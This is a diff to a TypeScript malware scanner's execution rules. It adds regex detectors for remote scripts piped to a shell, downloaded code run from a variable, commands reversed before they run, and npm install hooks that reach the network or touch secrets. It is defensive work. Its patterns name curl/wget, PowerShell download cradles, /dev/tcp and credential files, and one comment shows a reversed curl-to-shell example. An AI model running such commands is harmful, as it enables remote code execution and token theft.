@@ -6,7 +6,7 @@
  * or a raw IP, base64-wrapped `curl | bash` one-liners, password-protected zips) and on the
  * classic reverse-shell cheat sheets.
  */
-import { classifyUrl, extractUrls, isNegated, patternRule, type Hit, type Rule, type Severity } from "../../../scan";
+import { classifyUrl, extractUrls, isNegated, patternRule, type HiddenText, type Hit, type LineIndex, type Rule, type ScanTarget, type Severity } from "../../../scan";
 
 const SHELLS = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:/usr)?(?:/bin/)?(?:ba|z|da|k|fi|c|tc)?sh\b`;
 
@@ -22,20 +22,25 @@ function remoteSeverity(line: string): { severity: Severity; where: string } {
   return { severity: "high", where: urls[0]!.c.host };
 }
 
+const PIPE_TO_SHELL: RegExp[] = [
+  new RegExp(String.raw`\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|http(?:ie)?|aria2c)\b[^|\n]*\|\s*(?:(?:tee|cat)\s+[^|]*\|\s*)?${SHELLS}`, "i"),
+  /\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+)?(?:python[23]?|perl|ruby|node|php|pwsh|powershell)\b\s*(?:-\s*)?(?:$|[;&|)`"'])/i,
+  /\b(?:ba|z)?sh\s+(?:-s\s+)?<\(\s*(?:curl|wget)\b|\b(?:source|\.)\s+<\(\s*(?:curl|wget)\b/i,
+  /\b(?:ba|z)?sh\s+-c\s+["']?\$\(\s*(?:curl|wget)\b|\beval\s+["']?\$\(\s*(?:curl|wget)\b|\bpython[23]?\s+-c\s+["']?\$\(\s*(?:curl|wget)\b/i,
+  /\b(?:iex|Invoke-Expression)\b[^\n]{0,20}\(?\s*\(?\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|New-Object\s+(?:System\.)?Net\.WebClient)\b/i,
+  /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|\n]*\|\s*(?:iex|Invoke-Expression)\b/i,
+  /\.DownloadString\(\s*["'][^"']+["']\s*\)\s*\|\s*(?:iex|Invoke-Expression)\b/i,
+  // A WebClient made on an earlier line: `IEX $c.DownloadString('https://…')`, or a script block built from a download.
+  /\b(?:iex|Invoke-Expression)\b[^\n]{0,60}\.Download(?:String|Data)\s*\(/i,
+  /\[scriptblock\]::Create\([^\n]{0,80}(?:\.Download(?:String|Data)\s*\(|\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b)/i,
+];
+
 export const pipeToShell: Rule = {
   id: "exec.pipe-to-shell",
   severity: "high",
   title: "Remote script piped to a shell",
   line(line) {
-    const patterns = [
-      new RegExp(String.raw`\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|http(?:ie)?|aria2c)\b[^|\n]*\|\s*(?:(?:tee|cat)\s+[^|]*\|\s*)?${SHELLS}`, "i"),
-      /\b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+)?(?:python[23]?|perl|ruby|node|php|pwsh|powershell)\b\s*(?:-\s*)?(?:$|[;&|)`"'])/i,
-      /\b(?:ba|z)?sh\s+(?:-s\s+)?<\(\s*(?:curl|wget)\b|\b(?:source|\.)\s+<\(\s*(?:curl|wget)\b/i,
-      /\b(?:ba|z)?sh\s+-c\s+["']?\$\(\s*(?:curl|wget)\b|\beval\s+["']?\$\(\s*(?:curl|wget)\b|\bpython[23]?\s+-c\s+["']?\$\(\s*(?:curl|wget)\b/i,
-      /\b(?:iex|Invoke-Expression)\b[^\n]{0,20}\(?\s*\(?\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|New-Object\s+(?:System\.)?Net\.WebClient)\b/i,
-      /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|\n]*\|\s*(?:iex|Invoke-Expression)\b/i,
-      /\.DownloadString\(\s*["'][^"']+["']\s*\)\s*\|\s*(?:iex|Invoke-Expression)\b/i,
-    ];
+    const patterns = PIPE_TO_SHELL;
     for (const re of patterns) {
       const m = re.exec(line);
       if (!m || isNegated(line, m.index)) continue;
@@ -59,18 +64,32 @@ const DOWNLOAD_TARGET =
 
 const basename = (p: string) => p.replace(/^.*[/\\]/, "").replace(/["']/g, "");
 
+const DOWNLOAD_RUN_LINE: [RegExp, string][] = [
+  [/\bexec\s*\(\s*(?:requests|httpx)\.get\(|\bexec\s*\(\s*(?:urllib\.request\.)?urlopen\(|\bexec\s*\(\s*\w+\.(?:text|content)\s*\)/i, "Executes code fetched over the network (exec of a response)"],
+  [/\beval\s*\(\s*(?:await\s+)?\(?\s*(?:await\s+)?fetch\(|\bnew\s+Function\s*\([^)]*(?:fetch|\.text\(\)|responseText)|\beval\s*\(\s*\w+\.(?:responseText|data)\s*\)/i, "Evaluates JavaScript fetched over the network"],
+  // `fetch(url).then(r => r.text()).then(eval)`: the response handed to eval, Function or vm by a promise chain.
+  [/\b(?:fetch|axios(?:\.get)?|got|ky|request|https?\.get)\s*\([^\n]*\.then\(\s*(?:(?:\(\s*\w*\s*\)|\w+)\s*=>\s*(?:new\s+)?)?(?:eval|Function|vm\.runIn\w*Context|vm\.Script)\b/i, "Evaluates JavaScript fetched over the network"],
+  [/\bvm\.(?:runIn\w*Context|compileFunction)\s*\([^\n]*(?:fetch\(|\.text\(\)|responseText)/i, "Runs JavaScript fetched over the network in a vm context"],
+  [/\b(?:curl|wget)\b[^\n]*&&\s*(?:chmod\s+\+x\s+\S+\s*&&\s*)?\.\/[\w.-]+/i, "Downloads a file and runs it"],
+  [/\b(?:Start-Process|Invoke-Item|&)\s+["']?\$env:(?:TEMP|TMP|APPDATA)[^\n]*\.(?:exe|bat|cmd|ps1|scr|msi)\b/i, "Runs an executable dropped in a temporary folder"],
+];
+
+/** A variable that receives a download, in shell, PowerShell, Python and JavaScript. */
+const FETCHED_VAR =
+  /(?:^|[\s;({])(?:(?:export|local|readonly|const|let|var)\s+)?\$?([A-Za-z_]\w*)\s*=\s*(?:["']?\$\(\s*(?:curl|wget)\b|[^\n=]{0,60}?(?:\.Download(?:String|Data)\s*\(|\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b|\brequests\.get\(|\bhttpx\.get\(|\burlopen\(|\bfetch\s*\(|\baxios\.get\())/gm;
+
+/** What runs a variable's content as code, given its name. */
+const runsVar = (name: string) =>
+  new RegExp(
+    String.raw`\beval\s+["']?\$\{?${name}\b|\b(?:ba|z)?sh\s+-c\s+["']?\$\{?${name}\b|\becho\s+["']?\$\{?${name}\}?["']?\s*\|\s*(?:ba|z)?sh\b|\b(?:iex|Invoke-Expression)\b\s*\(?\s*\$${name}\b|\[scriptblock\]::Create\(\s*\$${name}\b|\b(?:exec|eval)\s*\(\s*${name}\b(?:\.(?:text|content|read\(\)|decode\(\)))?|\bnew\s+Function\s*\(\s*${name}\b|\bvm\.runIn\w*Context\s*\(\s*${name}\b`,
+  );
+
 export const downloadAndRun: Rule = {
   id: "exec.download-and-run",
   severity: "high",
   title: "Download and run",
   line(line) {
-    const patterns: [RegExp, string][] = [
-      [/\bexec\s*\(\s*(?:requests|httpx)\.get\(|\bexec\s*\(\s*(?:urllib\.request\.)?urlopen\(|\bexec\s*\(\s*\w+\.(?:text|content)\s*\)/i, "Executes code fetched over the network (exec of a response)"],
-      [/\beval\s*\(\s*(?:await\s+)?\(?\s*(?:await\s+)?fetch\(|\bnew\s+Function\s*\([^)]*(?:fetch|\.text\(\)|responseText)|\beval\s*\(\s*\w+\.(?:responseText|data)\s*\)/i, "Evaluates JavaScript fetched over the network"],
-      [/\b(?:curl|wget)\b[^\n]*&&\s*(?:chmod\s+\+x\s+\S+\s*&&\s*)?\.\/[\w.-]+/i, "Downloads a file and runs it"],
-      [/\b(?:Start-Process|Invoke-Item|&)\s+["']?\$env:(?:TEMP|TMP|APPDATA)[^\n]*\.(?:exe|bat|cmd|ps1|scr|msi)\b/i, "Runs an executable dropped in a temporary folder"],
-    ];
-    for (const [re, message] of patterns) {
+    for (const [re, message] of DOWNLOAD_RUN_LINE) {
       const m = re.exec(line);
       if (m && !isNegated(line, m.index)) return { index: m.index, length: m[0].length, message };
     }
@@ -92,6 +111,13 @@ export const downloadAndRun: Rule = {
       );
       const r = run.exec(text.slice(at));
       if (r) hits.push({ index: at + r.index, length: r[0].length, message: `Downloads ${name} and then runs it: code that was never scanned` });
+    }
+    // A download kept in a variable and run later: `$s = $wc.DownloadString(u)` … `iex $s`, `code = requests.get(u).text` … `exec(code)`.
+    const vars = new Map<string, number>();
+    for (const m of text.matchAll(FETCHED_VAR)) if (!vars.has(m[1]!)) vars.set(m[1]!, m.index);
+    for (const [name, at] of vars) {
+      const r = runsVar(name).exec(text.slice(at));
+      if (r) hits.push({ index: at + r.index, length: r[0].length, message: `Runs what it downloaded into ${name}: code that was never scanned` });
     }
     return hits;
   },
@@ -133,6 +159,9 @@ export const encodedExec = patternRule({
     /\|\s*rev\s*\|\s*(?:ba|z)?sh\b|\bxxd\s+-r\s+-p\b[^\n]*\|\s*(?:ba|z)?sh\b/i,
     /\bprintf\s+["'](?:\\x[0-9a-f]{2}){4,}[^"']*["']\s*\|\s*(?:ba|z)?sh\b/i,
     /\beval\s*\(\s*String\.fromCharCode\b|\bexec\s*\(\s*["']{0,2}\s*\.?join\(\s*(?:map\(\s*)?chr\b/i,
+    // A command written backwards and reversed as it runs: `os.system(cmd[::-1])`, `execSync(s.split('').reverse().join(''))`.
+    /\b(?:os\.system|os\.popen|subprocess\.\w+|exec|eval|system|popen|shell_exec|passthru|execSync|spawnSync|execFileSync|Function)\s*\([^\n]{0,80}?(?:\[\s*::\s*-1\s*\]|\.reverse\(\)\s*\.join\(|\bstrrev\s*\(|\breversed\s*\()/i,
+    /\b(?:iex|Invoke-Expression)\b[^\n]{0,80}(?:\[array\]::Reverse|\[-1\.\.)/i,
   ],
   message: "Decodes an obfuscated payload and executes it",
 });
@@ -156,4 +185,62 @@ export const cryptoMiner = patternRule({
   message: "Runs or configures a cryptocurrency miner",
 });
 
-export const EXECUTION_RULES: Rule[] = [pipeToShell, downloadAndRun, reverseShell, encodedExec, protectedArchive, cryptoMiner];
+const REVERSAL = /\[\s*::\s*-1\s*\]|\.reverse\(\)|\bstrrev\s*\(|\|\s*rev\b|\[array\]::Reverse\b|\breversed\s*\(|\.reverse\b/i;
+const STRING_LITERAL = /(["'`])((?:\\.|(?!\1)[^\\\n]){8,2000})\1/g;
+
+/**
+ * Hidden text for the engine: string literals of a file that reverses strings, read backwards.
+ * `cmd = 'hs | x/elpmaxe.live//:sptth lruc'` then `os.system(cmd[::-1])` hides a pipe-to-shell
+ * from every keyword rule; scanned reversed, it is found (and raised, being hidden).
+ */
+export function reversedStrings(target: ScanTarget, lines: LineIndex): HiddenText[] {
+  if (!target.text || target.kind === "binary" || !REVERSAL.test(target.text)) return [];
+  const out: HiddenText[] = [];
+  for (const m of target.text.matchAll(STRING_LITERAL)) {
+    if (out.length >= 50) break;
+    out.push({ text: [...m[2]!].reverse().join(""), line: lines.lineOf(m.index), via: "a reversed string" });
+  }
+  return out;
+}
+
+const LIFECYCLE = /"(preinstall|install|postinstall|preprepare|prepare|postprepare|prepublish|prepack|postpack|preuninstall|uninstall|postuninstall)"\s*:\s*"((?:\\.|[^"\\])*)"/g;
+const HOOK_NETWORK = /\b(?:curl|wget|nc|ncat|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|fetch|axios|XMLHttpRequest|urlopen|urllib|requests\.|https?\.(?:get|request)|require\(\s*\\?["'](?:node:)?(?:https?|net|dgram|dns)\\?["']\s*\)|dns\.resolve|nslookup|socket\.)|https?:\/\/|\/dev\/tcp\//i;
+const HOOK_OBFUSCATED = /\bbase64\s+-{1,2}d|\bBuffer\.from\([^)]*base64|\batob\(|\beval\(|\bFunction\(|fromCharCode|\\x[0-9a-f]{2}/i;
+const HOOK_SECRETS = /\bprocess\.env\b|\$\{?[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD|PASS|CREDENTIALS?|AUTH)\w*|\bos\.environ\b|\.npmrc\b|\.ssh\/|\.aws\/|\benv\s*\||\bprintenv\b|trufflehog/i;
+
+/**
+ * An npm lifecycle script (`postinstall`, `prepare` …) in a bundled package.json runs on every
+ * `npm install` of that template, with the user's environment and tokens. Hooks that reach the
+ * network, decode or eval code, or touch secrets are how npm worms spread (the 2025 Shai-Hulud and
+ * Nx "s1ngularity" attacks stole npm and GitHub tokens this way); `husky install` or a local build
+ * script is ordinary.
+ */
+export const installHook: Rule = {
+  id: "exec.install-hook",
+  severity: "high",
+  title: "Install hook that phones home",
+  kinds: ["json"],
+  text(text, ctx) {
+    if (!/(?:^|\/)package\.json$/i.test(ctx.target.path)) return [];
+    const hits: Hit[] = [];
+    for (const m of text.matchAll(LIFECYCLE)) {
+      const cmd = m[2]!;
+      const network = HOOK_NETWORK.test(cmd);
+      const obfuscated = HOOK_OBFUSCATED.test(cmd);
+      if (!network && !obfuscated) continue;
+      const secrets = HOOK_SECRETS.test(cmd);
+      hits.push({
+        index: m.index,
+        length: m[0].length,
+        severity: network && secrets ? "critical" : "high",
+        message:
+          network && secrets
+            ? `The '${m[1]}' script of this package.json sends environment or credential data over the network on every npm install`
+            : `The '${m[1]}' script of this package.json ${network ? "reaches the network" : "decodes or evaluates hidden code"} on every npm install`,
+      });
+    }
+    return hits;
+  },
+};
+
+export const EXECUTION_RULES: Rule[] = [pipeToShell, downloadAndRun, reverseShell, encodedExec, protectedArchive, cryptoMiner, installHook];
